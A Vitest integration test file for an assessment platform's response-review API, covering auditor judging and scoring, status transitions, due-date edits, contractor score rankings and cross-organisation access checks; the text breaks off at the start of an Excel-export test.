import ExcelJS from 'exceljs';
import { and, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { isoDay, type AssessmentReply } from '@palisade/domain/assessments/assessment.schema';
import type { Category } from '@palisade/domain/assessments/category.schema';
import type { Question } from '@palisade/domain/assessments/question.schema';
import type { Profile } from '@palisade/domain/auth/profile.schema';
import { messages } from '@palisade/domain/messages';
import type { EsgoReply, ResponseReply } from '@palisade/domain/responses/response.schema';
import type { ContractorTotalScore, ResponsePage } from '@palisade/domain/responses/review.schema';
import { scoreBand } from '@palisade/domain/scores/score.rules';
import { auditLog, contractorScores, responses, users } from '../../db/schema';
import { reviewRepository } from './review.repository';
import { createTestApp, type TestApp } from '../../test/test-app';

const m = messages.review;
const A = '/api/assessment';
const R = '/api/assessment/responses';
const DAY = 24 * 60 * 60 * 1000;
const inDays = (n: number) => isoDay(new Date(Date.now() + n * DAY));

let t: TestApp;
let admin: string;
let otherAdmin: string;
let c1: string;
let c2: string;
let otherContractor: string;
let auditor1: string;
let auditor2: string;
let employee: string;
let demoOrg: string;
let otherOrg: string;
const ids: Record<string, string> = {};
const cat: Record<string, string> = {};
const qs: string[] = [];
/** A SUBMITTED response of the other organisation (auditor1 and the demo admin must not reach it). */
let foreign: ResponseReply;

/** An assessment of the demo organisation for contractor1 and 2: PPE (20 marks, 2 yes/no) and Training (10, 2 texts). */
async function createAssessment(name: string, categories: [string, string] = [cat['PPE'] ?? '', cat['Training'] ?? '']): Promise<AssessmentReply> {
  const res = await t.post<AssessmentReply>(
    `${A}/createAssessment`,
    {
      name,
      dueDate: inDays(10),
      contractors: [ids.c1, ids.c2],
      sections: [
        {
          category: categories[0],
          totalMarks: 20,
          factors: { social: true },
          questions: [
            { question: qs[0], questType: { answerType: 'yesNo' } },
            { question: qs[1], questType: { answerType: 'yesNo' } },
          ],
        },
        {
          category: categories[1],
          totalMarks: 10,
          factors: { environment: true },
          questions: [
            { question: qs[2], questType: { answerType: 'shortAnswer' } },
            { question: qs[3], questType: { answerType: 'shortAnswer' } },
          ],
        },
      ],
    },
    admin,
  );
  expect(res.status, res.body.message).toBe(200);
  return res.body.data;
}

function section(r: ResponseReply, i: number) {
  const s = r.sections?.[i];
  if (!s) throw new Error(`no section ${i}`);
  return s;
}
function qid(r: ResponseReply, si: number, qi: number): string {
  const q = section(r, si).questions[qi];
  if (!q) throw new Error(`no question ${si}.${qi}`);
  return q._id;
}

async function save(r: ResponseReply, si: number, questions: unknown[], cookie: string, scoredMarks?: number | null) {
  return t.post<ResponseReply>(
    `${R}/updateSectionInResponse`,
    { assesRespId: r._id, sectionId: section(r, si)._id, responseData: { questions, ...(scoredMarks === undefined ? {} : { scoredMarks }) } },
    cookie,
  );
}
const judge = (r: ResponseReply, si: number, statuses: string[], scoredMarks?: number | null, cookie = auditor1) =>
  save(r, si, statuses.map((assessStatus, qi) => ({ _id: qid(r, si, qi), assessStatus })), cookie, scoredMarks);

async function status(r: ResponseReply, body: Record<string, unknown>, cookie = auditor1) {
  return t.post<ResponseReply>(`${R}/changeResponseStatus`, { responseId: r._id, ...body }, cookie);
}

/** Starts, answers and submits a response of contractor1 (or 2) to a fresh assessment. */
async function submitted(name: string, cookie = c1, contractorId = ids.c1, categories?: [string, string]): Promise<ResponseReply> {
  const a = await createAssessment(name, categories);
  const started = await t.post<ResponseReply>(`${R}/createResponseForContractor`, { assessmentId: a._id, contractor: { contractorId } }, cookie);
  expect(started.status, started.body.message).toBe(200);
  const r = started.body.data;
  expect((await save(r, 0, [{ _id: qid(r, 0, 0), answer: { yesNo: 'YES' } }, { _id: qid(r, 0, 1), answer: { yesNo: 'NO' } }], cookie)).status).toBe(200);
  expect((await save(r, 1, [{ _id: qid(r, 1, 0), answer: { text: 'Weekly' } }, { _id: qid(r, 1, 1), answer: { text: 'By the HSE manager' } }], cookie)).status).toBe(200);
  const res = await t.post<ResponseReply>(`${R}/changeResponseStatus`, { responseId: r._id, status: 'SUBMITTED' }, cookie);
  expect(res.status, res.body.message).toBe(200);
  return res.body.data;
}

async function getResponse(id: string, cookie = admin): Promise<ResponseReply> {
  const res = await t.post<ResponseReply>(`${R}/getResponseById`, { responseId: id }, cookie);
  expect(res.status, res.body.message).toBe(200);
  return res.body.data;
}

/** 401 without a session; 403 for every cookie given. */
/** contractor_scores (kept by migration 0016's trigger) equals the sums recomputed from the responses. */
async function expectScoresKept(organisationId = demoOrg): Promise<void> {
  const kept = await t.db
    .select({ contractorId: contractorScores.contractorId, completed: contractorScores.completed, scored: contractorScores.scored, total: contractorScores.total })
    .from(contractorScores)
    .where(and(eq(contractorScores.organisationId, organisationId), sql`${contractorScores.completed} > 0`))
    .orderBy(contractorScores.contractorId);
  expect(kept).toEqual(await reviewRepository.contractorTotalsRecomputed(t.db, organisationId));
}

async function expectRefused(url: string, payload: unknown, cookies: string[]): Promise<void> {
  expect((await t.post(url, payload)).status).toBe(401);
  for (const cookie of cookies) expect((await t.post(url, payload, cookie)).status).toBe(403);
}

/** The seeded responses (demo organisation), by "assessment name / contractor name". */
async function seeded(): Promise<Record<string, ResponseReply>> {
  const res = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg], pageSize: 200 }, admin);
  expect(res.status).toBe(200);
  return Object.fromEntries(res.body.data.items.map((r) => [`${r.assessment.name} / ${r.contractorName}`, r]));
}

beforeAll(async () => {
  t = await createTestApp();
  admin = await t.signIn('admin@demo.test');
  otherAdmin = await t.signIn('admin@other.test');
  c1 = await t.signIn('contractor1@demo.test');
  c2 = await t.signIn('contractor2@demo.test');
  otherContractor = await t.signIn('contractor@other.test');
  auditor1 = await t.signIn('auditor1@demo.test');
  auditor2 = await t.signIn('auditor2@demo.test');
  employee = await t.signIn('employee1@demo.test');
  demoOrg = (await t.get<Profile>('/api/auth/me', admin)).body.data.cmp_id ?? '';
  otherOrg = (await t.get<Profile>('/api/auth/me', otherAdmin)).body.data.cmp_id ?? '';
  ids.c1 = await t.userId('contractor1@demo.test');
  ids.c2 = await t.userId('contractor2@demo.test');
  ids.c3 = await t.userId('contractor3@demo.test');
  ids.other = await t.userId('contractor@other.test');
  const categories = await t.post<Category[]>(`${A}/categories/getAssessCategoriesByCompanyId`, { companyId: demoOrg }, admin);
  for (const c of categories.body.data) cat[c.name] = c._id;
  const questions = await t.post<Question[]>(`${A}/questions/getQuestionsByCompanyId`, { companyId: demoOrg }, admin);
  qs.push(...questions.body.data.map((q) => q._id));

  // The other organisation: one assessment, answered and submitted by its contractor.
  const oc = await t.post<Category>(`${A}/categories/createAssessCategory`, { companyId: otherOrg, name: 'Other Safety' }, otherAdmin);
  const oq = await t.post<Question>(`${A}/questions/createQuestion`, { companyId: otherOrg, questText: 'Is there a safety officer?' }, otherAdmin);
  const oa = await t.post<AssessmentReply>(
    `${A}/createAssessment`,
    {
      name: 'Other Audit',
      dueDate: inDays(10),
      contractors: [ids.other],
      sections: [{ category: oc.body.data._id, totalMarks: 10, factors: { others: true }, questions: [{ question: oq.body.data._id, questType: { answerType: 'yesNo' } }] }],
    },
    otherAdmin,
  );
  expect(oa.status, oa.body.message).toBe(200);
  const started = await t.post<ResponseReply>(`${R}/createResponseForContractor`, { assessmentId: oa.body.data._id, contractor: { contractorId: ids.other } }, otherContractor);
  const r = started.body.data;
  expect((await save(r, 0, [{ _id: qid(r, 0, 0), answer: { yesNo: 'YES' } }], otherContractor)).status).toBe(200);
  foreign = (await t.post<ResponseReply>(`${R}/changeResponseStatus`, { responseId: r._id, status: 'SUBMITTED' }, otherContractor)).body.data;
  expect(foreign.status).toBe('SUBMITTED');
});
afterAll(async () => {
  await t.close();
});

describe('POST /api/assessment/responses/getResponsesByCompanyIds', () => {
  it('pages the organisation’s responses as summaries, newest first, with progress and score from the columns', async () => {
    const [row] = await t.db.select({ n: sql<number>`count(*)::int` }).from(responses).where(eq(responses.organisationId, demoOrg));
    const count = row?.n ?? 0;
    expect(count).toBe(9);
    for (const cookie of [admin, auditor1, auditor2]) {
      const res = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg] }, cookie);
      expect(res.status, res.body.message).toBe(200);
      expect(res.body.data).toMatchObject({ total: count, page: 1, pageSize: 50 });
      const items = res.body.data.items;
      expect(items).toHaveLength(count);
      expect(items.every((r) => r.sections === undefined && r.timeline === undefined && r.companyId === demoOrg)).toBe(true);
      const times = items.map((r) => r.lastAccessTime);
      expect(times).toEqual([...times].sort().reverse());
    }
    const all = await seeded();
    expect(all['Environmental Compliance Review / North Sea Scaffolding']).toMatchObject({ status: 'COMPLETED', scored: 51, total: 60, progress: 100 });
    expect(all['Working at Height Audit / North Sea Scaffolding']).toMatchObject({ status: 'PENDING', progress: 33.33, scored: 0 });

    // Pages do not overlap and cover everything; OTN is the reverse order.
    const p1 = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg], pageSize: 4 }, admin);
    const p2 = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg], pageSize: 4, page: 2 }, admin);
    const p3 = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg], pageSize: 4, page: 3 }, admin);
    const paged = [...p1.body.data.items, ...p2.body.data.items, ...p3.body.data.items].map((r) => r._id);
    expect(paged).toHaveLength(count);
    expect(new Set(paged).size).toBe(count);
    expect(p3.body.data).toMatchObject({ total: count, page: 3, pageSize: 4 });
    const otn = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg], sort: 'OTN' }, admin);
    expect(otn.body.data.items.map((r) => r._id)).toEqual([...paged].reverse());
    const beyond = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg], page: 99 }, admin);
    expect(beyond.body.data).toMatchObject({ items: [], total: count });
  });

  it('filters by status, contractor and assessment, and expands sections on request', async () => {
    const submittedOnly = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg], status: 'SUBMITTED' }, auditor1);
    expect(submittedOnly.body.data.total).toBe(2);
    expect(submittedOnly.body.data.items.every((r) => r.status === 'SUBMITTED')).toBe(true);
    const mine = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg], contractorId: ids.c1 }, admin);
    expect(mine.body.data.total).toBe(4);
    expect(mine.body.data.items.every((r) => r.contractorId === ids.c1)).toBe(true);
    const one = mine.body.data.items[0];
    const byAssessment = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg], assessmentId: one?.assessmentId, contractorId: ids.c1 }, admin);
    expect(byAssessment.body.data.items.map((r) => r._id)).toEqual([one?._id]);
    const expanded = await t.post<ResponsePage>(
      `${R}/getResponsesByCompanyIds`,
      { companyIds: [demoOrg], include: { sections_category: true }, pageSize: 2 },
      admin,
    );
    expect(expanded.body.data.items).toHaveLength(2);
    expect(expanded.body.data.items.every((r) => (r.sections?.length ?? 0) > 0 && r.sections?.every((s) => s.questions.length > 0))).toBe(true);
    // auditor2 serves both organisations but lists its working one only (issue 19; lib/reading-scope.routes.test.ts).
    const both = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg, otherOrg] }, auditor2);
    expect(both.status).toBe(404);
  });

  it('refuses bad input (400), no session (401), other user types (403) and organisations not the caller’s (404)', async () => {
    for (const [body, message] of [
      [{ companyIds: [] }, m.companyIdsRequired],
      [{}, m.companyIdsRequired],
      [{ companyIds: Array.from({ length: 51 }, () => demoOrg) }, m.tooManyCompanyIds],
      [{ companyIds: [demoOrg], pageSize: 201 }, m.pageSizeInvalid],
      [{ companyIds: [demoOrg], page: 0 }, m.pageInvalid],
      [{ companyIds: [demoOrg], sort: 'NEW' }, m.sortInvalid],
      [{ companyIds: [demoOrg], status: 'DONE' }, m.statusInvalid],
    ] as const) {
      const res = await t.post(`${R}/getResponsesByCompanyIds`, body, admin);
      expect(res.status).toBe(400);
      expect(res.body.message).toBe(message);
    }
    await expectRefused(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg] }, [c1, employee]);
    for (const [cookie, companyIds] of [
      [admin, [otherOrg]],
      [admin, [demoOrg, otherOrg]],
      [auditor1, [otherOrg]],
      [otherAdmin, [demoOrg]],
    ] as const) {
      const res = await t.post(`${R}/getResponsesByCompanyIds`, { companyIds }, cookie);
      expect(res.status).toBe(404);
      expect(res.body.message).toBe(m.organisationNotFound);
    }
  });
});

describe('POST /api/assessment/responses/getResponsesByAssessmentId', () => {
  it('pages the responses to one assessment for the organisation and its auditors; else 404', async () => {
    const all = await seeded();
    const lifting = all['Lifting Operations Review / North Sea Scaffolding'];
    for (const cookie of [admin, auditor1]) {
      const res = await t.post<ResponsePage>(`${R}/getResponsesByAssessmentId`, { assessmentId: lifting?.assessmentId }, cookie);
      expect(res.status).toBe(200);
      expect(res.body.data.total).toBe(3);
      expect(res.body.data.items.every((r) => r.assessmentId === lifting?.assessmentId)).toBe(true);
    }
    const sub = await t.post<ResponsePage>(`${R}/getResponsesByAssessmentId`, { assessmentId: lifting?.assessmentId, status: 'REASSESSMENT', include: { sections_questions_question: true } }, admin);
    expect(sub.body.data.items.map((r) => r.contractorName)).toEqual(['Harbour Electrical Services']);
    expect(sub.body.data.items[0]?.sections?.[1]?.hasRejected).toBe(true);
    expect((await t.post(`${R}/getResponsesByAssessmentId`, {}, admin)).body.message).toBe('assessmentId is required');
    expect((await t.post(`${R}/getResponsesByAssessmentId`, { assessmentId: lifting?.assessmentId, pageSize: 0 }, admin)).status).toBe(400);
    await expectRefused(`${R}/getResponsesByAssessmentId`, { assessmentId: lifting?.assessmentId }, [c1, employee]);
    for (const [cookie, assessmentId] of [
      [otherAdmin, lifting?.assessmentId],
      [auditor1, foreign.assessmentId],
      [admin, 'no-such-assessment'],
    ] as const) {
      expect((await t.post(`${R}/getResponsesByAssessmentId`, { assessmentId }, cookie)).status).toBe(404);
    }
  });
});

describe('updateSectionInResponse by an auditor', () => {
  let r: ResponseReply;
  beforeAll(async () => {
    r = await submitted('Judged Section Audit');
  });

  it('judges questions with remarks; the counts, judged progress and red mark follow', async () => {
    const res = await save(r, 0, [
      { _id: qid(r, 0, 0), assessStatus: 'ACCEPTED', answer: { yesNo: 'NO' } },
      { _id: qid(r, 0, 1), assessStatus: 'REJECTED', remarks: '  Attach the signed policy.  ' },
    ], auditor1);
    expect(res.status, res.body.message).toBe(200);
    expect(res.body.message).toBe(messages.assessment.responseSaved);
    const s0 = section(res.body.data, 0);
    expect(s0.questions.map((q) => [q.assessStatus, q.remarks])).toEqual([
      ['ACCEPTED', null],
      ['REJECTED', 'Attach the signed policy.'],
    ]);
    // The auditor's answer is ignored: the contractor's YES stands.
    expect(s0.questions[0]?.answer.yesNo).toBe('YES');
    expect(s0).toMatchObject({ judgedProgress: 100, progress: 100, hasRejected: true, scoredMarks: null });
    expect(res.body.data.counts).toMatchObject({ judged: 2, rejected: 1, accepted: 1 });
    expect(res.body.data.status).toBe('SUBMITTED');
    const audit = await t.db.select().from(auditLog).where(and(eq(auditLog.entityId, r._id), eq(auditLog.action, 'response.reviewSection')));
    expect(audit).toHaveLength(1);
    // Left-out fields stay; an empty remark clears.
    const again = await save(r, 0, [{ _id: qid(r, 0, 1), remarks: '' }], auditor1);
    expect(section(again.body.data, 0).questions[1]).toMatchObject({ assessStatus: 'REJECTED', remarks: null });

    // Asked for (reply 'sent'), the reply holds only the section saved, named by either id, and
    // only the questions sent.
    const only = await t.post<ResponseReply>(
      `${R}/updateSectionInResponse`,
      { assesRespId: r._id, sectionId: section(r, 0).categoryId, responseData: { questions: [{ _id: qid(r, 0, 1), remarks: 'Sign it.' }] }, reply: 'sent' },
      auditor1,
    );
    expect(only.status, only.body.message).toBe(200);
    const read = await getResponse(r._id, auditor1);
    const judged = section(read, 0);
    expect(only.body.data).toEqual({ ...read, sections: [{ ...judged, questions: [judged.questions[1]] }] });
    expect(section(only.body.data, 0).questions).toMatchObject([{ _id: qid(r, 0, 1), remarks: 'Sign it.' }]);
  });

  it('scores a section only with every question accepted, a whole number from 0 to its marks', async () => {
    const early = await judge(r, 0, ['ACCEPTED', 'REJECTED'], 5);
    expect(early.status).toBe(400);
    expect(early.body.message).toBe(m.scoreNotAllowed);
    const missing = await judge(r, 1, ['ACCEPTED', 'ACCEPTED']);
    expect(missing.status).toBe(400);
    expect(missing.body.message).toBe(messages.assessment.enterScore);
    for (const [score, message] of [
      [null, messages.assessment.enterScore],
      [11, messages.orgAuditor.marksAboveTotal(10)],
      [-1, messages.assessment.marksPositive],
      [2.5, messages.orgAuditor.marksWhole],
      ['7', messages.orgAuditor.marksNumber],
    ] as const) {
      const res = await t.post(
        `${R}/updateSectionInResponse`,
        { assesRespId: r._id, sectionId: section(r, 1)._id, responseData: { questions: [{ _id: qid(r, 1, 0), assessStatus: 'ACCEPTED' }, { _id: qid(r, 1, 1), assessStatus: 'ACCEPTED' }], scoredMarks: score } },
        auditor1,
      );
      expect(res.status, String(score)).toBe(400);
      expect(res.body.message).toBe(message);
    }
    // Nothing of the refused saves was kept.
    expect(section(await getResponse(r._id), 1).questions.every((q) => q.assessStatus === 'NONE')).toBe(true);

    // 0 is a score (DECISIONS.md: from 0 to totalMarks), shown as 0, not as missing.
    const zero = await judge(r, 1, ['ACCEPTED', 'ACCEPTED'], 0);
    expect(zero.status, zero.body.message).toBe(200);
    expect(section(zero.body.data, 1).scoredMarks).toBe(0);

    const ok = await judge(r, 1, ['ACCEPTED', 'ACCEPTED'], 10);
    expect(ok.status, ok.body.message).toBe(200);
    expect(section(ok.body.data, 1).scoredMarks).toBe(10);
    expect(ok.body.data).toMatchObject({ scored: 10, total: 30 });
    // Kept when not sent; cleared when the section stops being all accepted.
    const keep = await save(r, 1, [{ _id: qid(r, 1, 0), remarks: 'Good' }], auditor1);
    expect(section(keep.body.data, 1).scoredMarks).toBe(10);
    const lost = await judge(r, 1, ['ACCEPTED', 'NONE']);
    expect(lost.status).toBe(200);
    expect(section(lost.body.data, 1).scoredMarks).toBeNull();
    expect(lost.body.data.scored).toBe(0);
  });

  it('refuses unknown questions (400), organisation users and employees (403), another organisation’s auditor (404), no session (401)', async () => {
    const unknown = await save(r, 0, [{ _id: 'no-such-question', assessStatus: 'ACCEPTED' }], auditor1);
    expect(unknown.status).toBe(400);
    expect(unknown.body.message).toBe(messages.responses.questionNotInSection('no-such-question'));
    const bad = await save(r, 0, [{ _id: qid(r, 0, 0), assessStatus: 'MAYBE' }], auditor1);
    expect(bad.status).toBe(400);
    expect(bad.body.message).toBe(m.assessStatusInvalid);
    const long = await save(r, 0, [{ _id: qid(r, 0, 0), remarks: 'x'.repeat(1001) }], auditor1);
    expect(long.body.message).toBe(m.remarksTooLong);
    const body = { assesRespId: r._id, sectionId: section(r, 0)._id, responseData: { questions: [{ _id: qid(r, 0, 0), assessStatus: 'REJECTED' }] } };
    await expectRefused(`${R}/updateSectionInResponse`, body, [admin, otherAdmin, employee]);
    const other = await save(foreign, 0, [{ _id: qid(foreign, 0, 0), assessStatus: 'ACCEPTED' }], auditor1);
    expect(other.status).toBe(404);
    // auditor2 serves the other organisation too.
    expect((await save(foreign, 0, [{ _id: qid(foreign, 0, 0), assessStatus: 'ACCEPTED' }], auditor2, 4)).status).toBe(200);
    // A contractor's judgement fields are ignored (and a SUBMITTED response is closed to it).
    expect((await save(r, 0, [{ _id: qid(r, 0, 0), assessStatus: 'REJECTED' }], c1)).status).toBe(409);
    expect(section(await getResponse(r._id), 0).questions[0]?.assessStatus).toBe('ACCEPTED');
  });

  it('refuses judging in PENDING, REASSESSMENT and COMPLETED (409)', async () => {
    const all = await seeded();
    for (const [key, message] of [
      ['Working at Height Audit / North Sea Scaffolding', m.notJudgeablePending],
      ['Fire Safety Inspection / North Sea Scaffolding', m.notJudgeableReassessment],
      ['Environmental Compliance Review / North Sea Scaffolding', m.notJudgeableCompleted],
    ] as const) {
      const full = await getResponse(all[key]?._id ?? '');
      const res = await judge(full, 0, section(full, 0).questions.map(() => 'ACCEPTED'), 1);
      expect(res.status, key).toBe(409);
      expect(res.body.message).toBe(message);
    }
  });
});

describe('changeResponseStatus by an auditor', () => {
  it('marks for reassessment only with every question judged and one rejected; a later due date extends it', async () => {
    const r = await submitted('Reassess Me Audit');
    const noneJudged = await status(r, { status: 'REASSESSMENT' });
    expect(noneJudged.status).toBe(409);
    expect(noneJudged.body.message).toBe(m.notAllJudged);
    await judge(r, 0, ['ACCEPTED', 'ACCEPTED'], 15);
    await judge(r, 1, ['ACCEPTED', 'NONE']);
    expect((await status(r, { status: 'REASSESSMENT' })).body.message).toBe(m.notAllJudged);
    await judge(r, 1, ['ACCEPTED', 'ACCEPTED'], 5);
    const noneRejected = await status(r, { status: 'REASSESSMENT' });
    expect(noneRejected.status).toBe(409);
    expect(noneRejected.body.message).toBe(m.noneRejected);
    await judge(r, 1, ['ACCEPTED', 'REJECTED']);

    const due = r.effectiveDueDate;
    const early = await status(r, { status: 'REASSESSMENT', extendedDueDate: isoDay(new Date(Date.parse(`${due}T00:00:00Z`) - DAY)) });
    expect(early.status).toBe(400);
    expect(early.body.message).toBe(m.dueDateBeforeCurrent(due));
    expect((await status(r, { status: 'REASSESSMENT', extendedDueDate: '2026-02-30' })).status).toBe(400);
    for (const s of ['PENDING', 'SUBMITTED']) {
      const res = await status(r, { status: s });
      expect(res.status).toBe(403);
      expect(res.body.message).toBe(m.statusNotAllowed);
    }
    await expectRefused(`${R}/changeResponseStatus`, { responseId: r._id, status: 'REASSESSMENT' }, [admin, employee]);
    expect((await status(r, { status: 'REASSESSMENT', companyId: otherOrg })).status).toBe(404);
    expect((await status(foreign, { status: 'REASSESSMENT' })).status).toBe(404);

    const later = inDays(30);
    const res = await status(r, { status: 'REASSESSMENT', extendedDueDate: later, updatedBy: { name: 'Not Me', userType: 2 } });
    expect(res.status, res.body.message).toBe(200);
    expect(res.body.message).toBe(messages.assessment.statusChanged('REASSESSMENT'));
    expect(res.body.data).toMatchObject({ status: 'REASSESSMENT', isDueDateExtended: true, newDueDate: later, effectiveDueDate: later });
    expect(res.body.data.timeline?.at(-1)).toMatchObject({ from: 'SUBMITTED', to: 'REASSESSMENT', by: { name: 'Safeguard Inspections', type: 4 }, note: m.dueDateNote(later) });
    // The rejected section lost its score; the accepted one kept it.
    expect(res.body.data.sections?.map((s) => s.scoredMarks)).toEqual([15, null]);
    const twice = await status(r, { status: 'REASSESSMENT' });
    expect(twice.status).toBe(409);
    expect(twice.body.message).toBe(m.alreadyReassessment);
    expect((await status(r, { status: 'COMPLETED' })).body.message).toBe(m.notJudgeableReassessment);
  });

  it('marks as completed only with every question accepted and every section scored', async () => {
    const r = await submitted('Complete Me Audit');
    await judge(r, 0, ['ACCEPTED', 'REJECTED']);
    await judge(r, 1, ['ACCEPTED', 'ACCEPTED'], 6);
    const rejected = await status(r, { status: 'COMPLETED' });
    expect(rejected.status).toBe(409);
    expect(rejected.body.message).toBe(m.notAllAccepted);
    // A section accepted before scoring was required (seed-like data): its missing score blocks completion.
    await t.db.execute(sql`update response_questions set assess_status = 'ACCEPTED' where response_id = ${r._id}`);
    const unscored = await status(r, { status: 'COMPLETED' });
    expect(unscored.status).toBe(409);
    expect(unscored.body.message).toBe(m.enterScoreFor('PPE'));
    expect(unscored.body.message.startsWith(messages.assessment.enterScore)).toBe(true);
    expect((await status(r, { status: 'COMPLETED', extendedDueDate: inDays(40) })).status).toBe(400);
    await judge(r, 0, ['ACCEPTED', 'ACCEPTED'], 18);
    const res = await status(r, { status: 'COMPLETED' });
    expect(res.status, res.body.message).toBe(200);
    expect(res.body.message).toBe(messages.assessment.statusChanged('COMPLETED'));
    expect(res.body.data).toMatchObject({ status: 'COMPLETED', scored: 24, total: 30 });
    const twice = await status(r, { status: 'COMPLETED' });
    expect(twice.status).toBe(409);
    expect(twice.body.message).toBe(m.notJudgeableCompleted);
    expect((await status(r, { status: 'REASSESSMENT' })).status).toBe(409);
    const submittedAgain = await t.post(`${R}/changeResponseStatus`, { responseId: r._id, status: 'SUBMITTED' }, c1);
    expect(submittedAgain.status).toBe(409);
  });

  it('refuses a PENDING response and bad input', async () => {
    const pending = (await seeded())['Working at Height Audit / North Sea Scaffolding'];
    const res = await t.post(`${R}/changeResponseStatus`, { responseId: pending?._id, status: 'COMPLETED' }, auditor1);
    expect(res.status).toBe(409);
    expect(res.body.message).toBe(m.notJudgeablePending);
    expect((await t.post(`${R}/changeResponseStatus`, { responseId: pending?._id }, auditor1)).status).toBe(400);
  });
});

describe('POST /api/assessment/responses/editResponse', () => {
  it('lets the organisation extend or clear a due date, not before the assessment’s, with a timeline note', async () => {
    const r = await submitted('Edit Due Date Audit');
    const later = inDays(20);
    const res = await t.post<ResponseReply>(`${R}/editResponse`, { responseId: r._id, updateData: { newDueDate: later } }, admin);
    expect(res.status, res.body.message).toBe(200);
    expect(res.body.message).toBe(messages.assessment.editedSuccessfully);
    expect(res.body.data).toMatchObject({ isDueDateExtended: true, newDueDate: later, effectiveDueDate: later, status: 'SUBMITTED' });
    expect(res.body.data.timeline?.at(-1)).toMatchObject({ from: 'SUBMITTED', to: 'SUBMITTED', by: { name: 'Dana Admin', type: 2 }, note: m.dueDateNote(later) });
    const early = await t.post(`${R}/editResponse`, { responseId: r._id, updateData: { newDueDate: inDays(1) } }, admin);
    expect(early.status).toBe(400);
    expect(early.body.message).toBe(m.dueDateBeforeAssessment(r.assessment.dueDate));
    const cleared = await t.post<ResponseReply>(`${R}/editResponse`, { responseId: r._id, updateData: { newDueDate: null } }, admin);
    expect(cleared.body.data).toMatchObject({ isDueDateExtended: false, newDueDate: null, effectiveDueDate: r.assessment.dueDate });
    expect(cleared.body.data.timeline?.at(-1)?.note).toBe(m.dueDateClearedNote);
    for (const body of [{ responseId: r._id }, { responseId: r._id, updateData: { newDueDate: '31/12/2030' } }, { updateData: { newDueDate: null } }]) {
      expect((await t.post(`${R}/editResponse`, body, admin)).status).toBe(400);
    }
    await expectRefused(`${R}/editResponse`, { responseId: r._id, updateData: { newDueDate: later } }, [auditor1, c1, employee]);
    expect((await t.post(`${R}/editResponse`, { responseId: r._id, updateData: { newDueDate: later } }, otherAdmin)).status).toBe(404);
    const done = (await seeded())['Environmental Compliance Review / North Sea Scaffolding'];
    const locked = await t.post(`${R}/editResponse`, { responseId: done?._id, updateData: { newDueDate: inDays(60) } }, admin);
    expect(locked.status).toBe(409);
    expect(locked.body.message).toBe(m.completedLocked);
  });
});

describe('organisation-wide scores', () => {
  it('getTotalScoresOfContrsInCompany: each contractor over its COMPLETED responses, best first', async () => {
    // The kept ranking as the background job leaves it (this test app runs no sweep).
    await t.services.rankings.rebuildDue();
    const expected = [
      { _id: { contractorName: 'North Sea Scaffolding', contractorId: ids.c1 }, scored: 51, total: 60, percent: 85 },
      { _id: { contractorName: 'Harbour Electrical Services', contractorId: ids.c2 }, scored: 34, total: 60, percent: 56.67 },
      { _id: { contractorName: 'Granite Civil Works', contractorId: ids.c3 }, scored: 18, total: 60, percent: 30 },
    ];
    for (const cookie of [admin, auditor1]) {
      const res = await t.post<ContractorTotalScore[]>(`${R}/getTotalScoresOfContrsInCompany`, { companyId: demoOrg }, cookie);
      expect(res.status, res.body.message).toBe(200);
      // Other tests in this file may have completed more responses of contractor1.
      expect(res.body.data.filter((x) => x._id.contractorId !== ids.c1)).toEqual(expected.slice(1));
      expect(res.body.data.map((x) => scoreBand(x.percent ?? 0))).toContain('RED');
    }
    expect((await t.post(`${R}/getTotalScoresOfContrsInCompany`, {}, admin)).body.message).toBe('companyId is required');
    await expectRefused(`${R}/getTotalScoresOfContrsInCompany`, { companyId: demoOrg }, [c1, employee]);
    for (const [cookie, companyId] of [
      [admin, otherOrg],
      [auditor1, otherOrg],
    ] as const) {
      expect((await t.post(`${R}/getTotalScoresOfContrsInCompany`, { companyId }, cookie)).status).toBe(404);
    }
  });

  it('getESGOForAllContractors: per factor over the organisation’s COMPLETED responses, or one contractor’s', async () => {
    const one = await t.post<EsgoReply>(`${R}/getESGOForAllContractors`, { companyId: demoOrg, contractorId: ids.c2 }, auditor1);
    expect(one.status, one.body.message).toBe(200);
    expect(one.body.data).toEqual((await t.post<EsgoReply>(`${R}/getESGOForContractor`, { contractorId: ids.c2 }, admin)).body.data);
    const all = await t.post<EsgoReply>(`${R}/getESGOForAllContractors`, { companyId: demoOrg }, admin);
    expect(all.status).toBe(200);
    // contractor3's Environmental Compliance Review adds Environment 18/60 and Governance 6/20 to the rest.
    expect(all.body.data.environment.total).toBeGreaterThanOrEqual(120);
    expect((await t.post(`${R}/getESGOForAllContractors`, { companyId: demoOrg, contractorId: 7 }, admin)).status).toBe(400);
    await expectRefused(`${R}/getESGOForAllContractors`, { companyId: demoOrg }, [c1, employee]);
    for (const body of [{ companyId: otherOrg }, { companyId: demoOrg, contractorId: ids.other }, { companyId: demoOrg, contractorId: 'nobody' }]) {
      expect((await t.post(`${R}/getESGOForAllContractors`, body, admin)).status).toBe(404);
    }
  });
});

describe('POST /api/assessment/responses/exportResponseToExcel', () => {
  it('sends the .xlsx of a response: a Summary sheet and a sheet per category, names cut to 31 characters', async () => {
    const long = ['Environment health and safety management A', 'Environment health and safety management B'];
    const made: string[] = [];
    for (const name of long) {
      const c = await t.post<Category>(`${A}/categories/createAssessCategory`, { companyId: demoOrg, name }, admin);
      expect(c.status, c.body.message).toBe(200);
      made.push(c.body.data._id);
    }
    const r = await submitted('Export  Me Audit', c1, ids.c1, [made[0] ?? '', made[1] ?? '']);
